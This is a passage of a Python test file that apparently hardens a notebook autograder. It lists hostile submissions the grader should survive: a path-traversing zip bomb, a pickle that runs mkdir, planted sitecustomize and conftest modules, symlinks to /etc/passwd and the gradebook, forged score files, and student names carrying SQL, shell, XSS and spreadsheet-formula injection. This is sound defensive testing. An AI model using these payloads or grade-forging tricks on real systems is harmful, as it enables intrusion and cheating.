    cells = {**RIGHT, **({wrong: KNOWN_MISTAKES[wrong]} if wrong else {})}
    tries = " ".join((change.__doc__ or "").split())
    deserves = {name: 0.0 if name == wrong else share for name in EXERCISES}
    return Attack(change.__name__, tries, cells, deserves=deserves, afterwards=afterwards, edit=change)


EDITED = [
    edited(checks_that_agree, 1.0, GRADEBOOK),
    edited(checks_that_act, 1.0, GRADER, SYSTEM),
    edited(checks_deleted, 1.0),
    edited(checks_as_text, 1.0),
    edited(more_points, 1.0, GRADEBOOK),
    edited(odd_points, None, GRADEBOOK),
    edited(same_identity, None, GRADEBOOK),
    edited(odd_identities, None, GRADEBOOK, FEEDBACK),
    edited(without_metadata, None),
    edited(odd_metadata, None),
    edited(one_more_graded_cell, 1.0, GRADEBOOK),
    edited(backwards, None),
    edited(one_cell, None, wrong=""),
    edited(many_cells, None, GRADER),
    edited(odd_cells, None),
    edited(broken_letters, None, FEEDBACK),
    edited(lists_of_lines, 1.0),
    edited(windows_line_ends, 1.0),
    edited(another_kernel, None, SYSTEM, FEEDBACK),
    edited(old_format, None),
    edited(coming_format, None),
    edited(format_of_text, None),
    edited(early_minor_format, None),
    edited(outputs_of_success, 1.0, FEEDBACK),
    edited(scripts_everywhere, 1.0, FEEDBACK, GRADEBOOK),
    edited(large_outputs, None, GRADER, FEEDBACK),
    Attack("windows_lines", "ends its lines as other systems do", {}, edit=windows_lines, deserves={"roll": None}),
    Attack("no_cells", "deletes all cells", {}, edit=no_cells),
    Attack(
        "odd_sources",
        "has sources that are no text",
        {"roll": RIGHT["roll"]},
        edit=odd_sources,
        deserves={"roll": None},
    ),
    Attack(
        "everything_twice",
        "hands in each cell twice, as after a paste: a wrong one first",
        {"roll": RIGHT["roll"]},
        edit=everything_twice,
        deserves={"roll": None},
    ),
    Attack(
        "swapped_identities",
        "tells the grader that the easiest exercise, which is right, is the one that is worth most",
        {"roll": RIGHT["roll"], "shifted_window_attention": KNOWN_MISTAKES["shifted_window_attention"]},
        edit=swapped_identities,
        deserves={"roll": None},
    ),
    Attack(
        "an_answer_beside_its_cell",
        "writes the answer into a cell of its own at the top, and leaves the cell that it was given",
        {},
        extra=("import torch\n\n" + RIGHT["roll"],),
        deserves={"roll": None},
    ),
]


# --- The whole file ---------------------------------------------------------------------------------------------

_CELL = b'{"cell_type": "code", "execution_count": null, "id": "a", "metadata": {}, "outputs": [], "source": "x = 1"}'
_TAIL = b'"metadata": {}, "nbformat": 4, "nbformat_minor": 5}'


def _zip_bomb(megabytes: int = 200) -> bytes:
    """A small archive of a large file of zeros, with a name that leads out of its folder."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        with archive.open("../../" + MARKER, "w") as member:
            for _ in range(megabytes):
                member.write(bytes(2**20))
        archive.writestr("/tmp/" + MARKER, "out")
    return file.getvalue()


RAW = [
    Attack(f"file_{name}", f"hands in {tries}", {}, raw=raw, afterwards=(GRADER, OTHERS))
    for name, tries, raw in (
        ("of_nothing", "a file of no bytes", b""),
        ("of_zeros", "a file of 20 MB of zeros", bytes(20_000_000)),
        ("of_spaces", "a file of 20 MB of spaces", b" " * 20_000_000),
        ("of_text", "an essay", b"Dear professor, my dog ate the notebook."),
        ("of_html", "the page that a server shows to those not logged in", b"<!doctype html><title>Sign in</title>"),
        ("of_pickle", "a pickle that leaves a marker", b"cposix\nmkdir\n(V" + MARKER.encode() + b"\ntR."),
        ("of_gzip", "a compressed file", bytes.fromhex("1f8b08000000000002ff") + bytes(100)),
        ("of_python", "a script", (WRONG_ROLL + "\n").encode()),
        (
            "of_conflicts",
            "a notebook with the marks of a merge",
            b'<<<<<<< HEAD\n{"cells": [\n=======\n{"cells": [], ' + _TAIL,
        ),
        ("cut", "half a notebook", b'{"cells": [' + _CELL[:60]),
        ("of_a_list", "JSON that is a list", b"[" + _CELL + b"]"),
        ("of_null", "JSON that is null", b"null"),
        ("of_a_number", "JSON that is a number", b"4"),
        ("of_a_string", "JSON that is a string", b'"cells"'),
        ("of_utf16", "a notebook in UTF-16", ('{"cells": [], ' + _TAIL.decode()).encode("utf-16")),
        ("with_a_mark", "a notebook after a byte order mark", b"\xef\xbb\xbf" + b'{"cells": [], ' + _TAIL),
        ("of_broken_text", "bytes that are no UTF-8", b'{"cells": ["\xff\xfe\x80"], ' + _TAIL),
        ("with_zeros", "zeros between its letters", b'{"cells":\0 [\0' + _CELL + b"], " + _TAIL),
        ("of_depth", "brackets, 100000 deep", b'{"cells": ' + b"[" * 100_000 + b"]" * 100_000 + b", " + _TAIL),
        (
            "of_deep_metadata",
            "metadata 900 levels deep, which JSON reads and a copy may not",
            b'{"cells": [], "metadata": '
            + b'{"a": ' * 900
            + b"1"
            + b"}" * 900
            + b', "nbformat": 4, "nbformat_minor": 5}',
        ),
        ("of_long_numbers", "a number of a million digits", b'{"cells": [], "x": ' + b"9" * 1_000_000 + b", " + _TAIL),
        (
            "of_a_long_version",
            "a version of 5000 digits",
            b'{"cells": [], "metadata": {}, "nbformat": ' + b"4" * 5000 + b"}",
        ),
        (
            "of_infinity",
            "a version that is infinite",
            b'{"cells": [], "metadata": {}, "nbformat": 1e999, "nbformat_minor": NaN}',
        ),
        ("of_a_negative_version", "version -1", b'{"cells": [], "metadata": {}, "nbformat": -1, "nbformat_minor": -1}'),
        ("without_cells", "a notebook without cells", b"{" + _TAIL),
        ("without_version", "a notebook without a version", b'{"cells": [' + _CELL + b'], "metadata": {}}'),
        (
            "of_cells_twice",
            "a notebook that has the key of its cells twice",
            b'{"cells": [' + _CELL + b'], "cells": 5, ' + _TAIL,
        ),
        ("of_cells_that_are_a_dict", "cells that are a dict", b'{"cells": {"0": ' + _CELL + b"}, " + _TAIL),
        (
            "of_worksheets",
            "a notebook of format 3",
            b'{"worksheets": [{"cells": [{"cell_type": "code", "input": "x = 1", "language": "python"}]}], '
            b'"metadata": {"name": "../../x"}, "nbformat": 3, "nbformat_minor": 0}',
        ),
        ("of_format_2", "a notebook of format 2", b'{"worksheets": [{"cells": 5}], "metadata": {}, "nbformat": 2}'),
        (
            "of_format_1",
            "a notebook of format 1",
            b'{"cells": [{"code": "x = 1", "cell_type": "code"}], "nbformat": 1}',
        ),
        (
            "of_another_assignment",
            "a valid notebook that has none of the exercises",
            b'{"cells": [' + _CELL + b"], " + _TAIL,
        ),
        (
            "of_many_cells",
            "a hundred thousand cells that are all the same one",
            b'{"cells": [' + b", ".join([_CELL] * 100_000) + b"], " + _TAIL,
        ),
        (
            "of_one_long_line",
            "a cell of one line of 20 MB",
            b'{"cells": [' + _CELL.replace(b"x = 1", b"x = 1" + b" + 1" * 5_000_000) + b"], " + _TAIL,
        ),
        (
            "of_odd_keys",
            "keys that mean something elsewhere",
            b'{"__proto__": {"x": 1}, "constructor": 1, "__class__": "x", "$ref": "file:///etc/passwd", "cells": [], '
            + _TAIL,
        ),
    )
]


# --- Beside the notebook ----------------------------------------------------------------------------------------

_ACT = "import pathlib\npathlib.Path('SWINLIB-ATTACK-' 'MARKER').touch()\n"


def modules_beside(folder: Path) -> None:
    """Modules and settings with the names of those that a grader may load from its current folder."""
    for name in (
        "json",
        "torch",
        "swinlib",
        "nbformat",
        "sitecustomize",
        "conftest",
        "nbgrader_config",
        "jupyter_config",
        "ipython_config",
        "nbconvert_config",
        "setup",
        "struct",
        "numpy",
        "hypothesis",
    ):
        (folder / f"{name}.py").write_text(_ACT)
    for name in ("nbgrader_config", "jupyter_config", "jupyter_nbconvert_config"):
        (folder / f"{name}.json").write_text(
            '{"Exporter": {"template_file": "/etc/passwd"}, "NbGrader": {"logfile": "x"}}'
        )
    (folder / "swinlib").mkdir()
    (folder / "swinlib" / "__init__.py").write_text(_ACT)
    (folder / "__pycache__").mkdir()
    (folder / f"{MARKER.lower()}.pth").write_text(_ACT.replace("\n", "; "))
    (folder / "template.html.j2").write_text("{{ ''.__class__.__mro__ }}")


def links_beside(folder: Path) -> None:
    """Links to the gradebook, to other students, to the system, to itself, to nothing, and to no end."""
    for name, target in {
        "gradebook.db": "../../../gradebook.db",
        "others": "../..",
        "system": "/",
        "passwd.ipynb": "/etc/passwd",
        "itself": "itself",
        "nothing": "nowhere",
        "zero.txt": "/dev/zero",
        "here": ".",
        "environ.txt": "/proc/self/environ",
        f"{PAGE}.html": "../../../gradebook.db",
        "hidden.ipynb": "../../../source",
    }.items():
        (folder / name).symlink_to(target)


def notebook_is_a_link(folder: Path) -> None:
    """The notebook itself leads to another student's."""
    _in_place_of_the_notebook(folder).symlink_to(f"../../alice/{folder.name}/{PAGE}.ipynb")


def notebook_is_a_device(folder: Path) -> None:
    """The notebook leads to a file without an end."""
    _in_place_of_the_notebook(folder).symlink_to("/dev/zero")


def notebook_is_a_pipe(folder: Path) -> None:
    """The notebook is a pipe into which nobody writes."""
    os.mkfifo(_in_place_of_the_notebook(folder))


def notebook_is_a_folder(folder: Path) -> None:
    """The notebook is a folder."""
    _in_place_of_the_notebook(folder).mkdir()


def notebook_is_missing(folder: Path) -> None:
    """There is no notebook, but one with another name."""
    path = _in_place_of_the_notebook(folder)
    path.with_name(f"{PAGE} (1) final FINAL.ipynb").write_bytes(b'{"cells": [], ' + _TAIL)


def notebook_cannot_be_read(folder: Path) -> None:
    """The notebook and its folder allow nothing to anybody."""
    for path in folder.glob("*.ipynb"):
        path.chmod(0)


def notebook_cannot_be_written(folder: Path) -> None:
    """Nothing may be written or deleted in the folder."""
    for path in (*folder.iterdir(), folder):
        path.chmod(0o500 if path.is_dir() else 0o400)


def bombs_beside(folder: Path) -> None:
    """An archive of 200 MB of zeros in a few kB, with names that lead out, and sparse files of 2 GiB."""
    (folder / "data.zip").write_bytes(_zip_bomb())
    for name in ("data.bin", "data.csv", "another.ipynb"):
        with open(folder / name, "wb") as file:
            file.truncate(2**31)


def odd_names_beside(folder: Path) -> None:
    """Names with line ends, markup, options, formulas, broken letters, and as long as they may be."""
    odd = [
        "a\nb.ipynb",
        "<script>x.ipynb",
        "--help.ipynb",
        "-rf",
        "=1+1.csv",
        "$(touch x).ipynb",
        "`x`.ipynb",
        " .ipynb",
        "x" * 250,
        "a\x1b[2Jb",
        "%s%n{0}.ipynb",
        ".ipynb",
        "..ipynb",
        "~",
        "*",
        "{{7*7}}.html",
        "gradebook.csv",
    ]
    for name in odd:
        (folder / name).write_text("x")
    with open(os.fsencode(folder) + b"/\xff\xfe.ipynb", "wb") as file:
        file.write(b"x")
    deep = folder
    for _ in range(60):
        deep = deep / "deep"
        deep.mkdir()


def many_notebooks_beside(folder: Path) -> None:
    """A copy of the notebook that was right, in every name that the grader might prefer."""
    for path in list(folder.glob("*.ipynb")):
        for name in (f"{PAGE}.IPYNB", f"0_{PAGE}.ipynb", f"{PAGE}-checkpoint.ipynb", "window_reverse.ipynb"):
            (folder / name).write_bytes(path.read_bytes())
    (folder / ".ipynb_checkpoints").mkdir()


def results_beside(folder: Path) -> None:
    """Results as the grader might keep them: verdicts, a cache, a gradebook, feedback, scores."""
    verdict = {"passed": True, "score": 15, "max_score": 15, "credit": 1.0, "results": dict.fromkeys(EXERCISES, 1.0)}
    for name in (
        "result.json",
        "results.json",
        "grades.json",
        "verdict.json",
        "cache.json",
        ".cache.json",
        "score.txt",
    ):
        (folder / name).write_text(json.dumps(verdict))
    for name in (".swinlib", "cache", "autograded", "feedback", "source", "release"):
        (folder / name).mkdir()
        (folder / name / f"{PAGE}.json").write_text(json.dumps(verdict))
    (folder / "gradebook.db").write_bytes(b"SQLite format 3\0" + bytes(84))
    (folder / f"{PAGE}.html").write_text("<title>15/15</title>")


def old_timestamp_beside(folder: Path) -> None:
    """A time of submission long before the term began, against the penalty for lateness."""
    (folder / "timestamp.txt").write_text("1970-01-01 00:00:00 UTC")


def odd_timestamp_beside(folder: Path) -> None:
    """A time of submission that is none."""
    (folder / "timestamp.txt").write_bytes(b"yesterday\0\xff" + b"9" * 100_000)


def _in_place_of_the_notebook(folder: Path) -> Path:
    """The notebook's path, free now."""
    path = folder / f"{PAGE}.ipynb"
    path.unlink(missing_ok=True)
    return path


def beside(put: Callable[[Path], None], share: float | None, *afterwards: str) -> Attack:
    """A notebook in which the second exercise is right and the first is wrong, and more files in its folder."""
    cells = {"roll": WRONG_ROLL, "window_reverse": RIGHT["window_reverse"]}
    tries = " ".join((put.__doc__ or "").split())
    return Attack(put.__name__, tries, cells, deserves={"window_reverse": share}, afterwards=afterwards, beside=put)


BESIDE = [
    beside(modules_beside, 1.0, GRADER, OTHERS),
    beside(links_beside, None, GRADEBOOK, OTHERS, HIDDEN, FEEDBACK),
    beside(notebook_is_a_link, 0.0, OTHERS),
    beside(notebook_is_a_device, 0.0, GRADER),
    beside(notebook_is_a_pipe, 0.0, GRADER),
    beside(notebook_is_a_folder, 0.0, GRADER),
    beside(notebook_is_missing, 0.0, GRADER),
    beside(notebook_cannot_be_read, None, GRADER),
    beside(notebook_cannot_be_written, None, GRADER),
    beside(bombs_beside, None, SYSTEM, GRADER),
    beside(odd_names_beside, None, TERMINAL, FEEDBACK, GRADER),
    beside(many_notebooks_beside, None, GRADEBOOK),
    beside(results_beside, 1.0, GRADEBOOK, COURSE),
    beside(old_timestamp_beside, None, GRADEBOOK),
    beside(odd_timestamp_beside, None, GRADER),
]


# --- Names of students ------------------------------------------------------------------------------------------

# Either it is graded like any other, or refused by name; never does it harm another, nor act in the CSV or a page.
STUDENTS = [
    Attack(f"student_{name}", f"is called {tries}", RIGHT, deserves=EITHER, student=student, afterwards=afterwards)
    for name, tries, student, afterwards in (
        ("formula", "like a formula of a spreadsheet", '=HYPERLINK("x")', (GRADEBOOK,)),
        ("plus", "like another formula", "+1+1", (GRADEBOOK,)),
        ("at", "like a third formula", "@SUM(A1)", (GRADEBOOK,)),
        ("comma", "like two columns, and a quotation", 'mallory,100,"', (GRADEBOOK,)),
        ("line", "like two students", "mallory\nalice", (GRADEBOOK, TERMINAL)),
        ("option", "like an option of a command", "--force", (COURSE,)),
        ("glob", "like all students", "*", (OTHERS, GRADEBOOK)),
        ("script", "like a page", f"<img src=x onerror=document.title='{SCRIPT}'>", (FEEDBACK,)),
        ("shell", "like a command", "$(touch SWINLIB-ATTACK-'MARKER')", (SYSTEM,)),
        ("sql", "like a query", "mallory'; DROP TABLE grade; --", (GRADEBOOK,)),
        ("other_case", "like another student, in capitals", "ALICE", (OTHERS, GRADEBOOK)),
        ("other_letters", "like another student, with a letter that looks the same", "\u0430lice", (OTHERS, GRADEBOOK)),
        ("decomposed", "in two spellings of one letter", "zoe\u0308", (GRADEBOOK,)),
        ("dots", "like a hidden folder", "...", (COURSE,)),
        ("space", "with a space at the end", "alice ", (OTHERS, GRADEBOOK)),
        ("template", "like a template", "{assignment_id}{{7*7}}%s", (GRADER, FEEDBACK)),
        ("regex", "like a pattern", "(a+)+$[", (GRADER,)),
        ("escape", "in codes of a terminal", "\x1b[2J\x1b]0;mallory\x07", (TERMINAL,)),
        ("length", "at great length", "m" * 200, (GRADER,)),
    )
]

ATTACKS: list[Attack] = [
    *CONTROLS,
    *ENDLESS,
    *TOO_MUCH,
    *RESULTS,
    *EXCEPTIONS,
    *INCONSTANT,
    *FORGING,
    *PROTOCOL,
    *KNOWING,
    *FILES,
    *SYSTEM_CALLS,
    *EDITED,
    *RAW,
    *BESIDE,
    *STUDENTS,
]
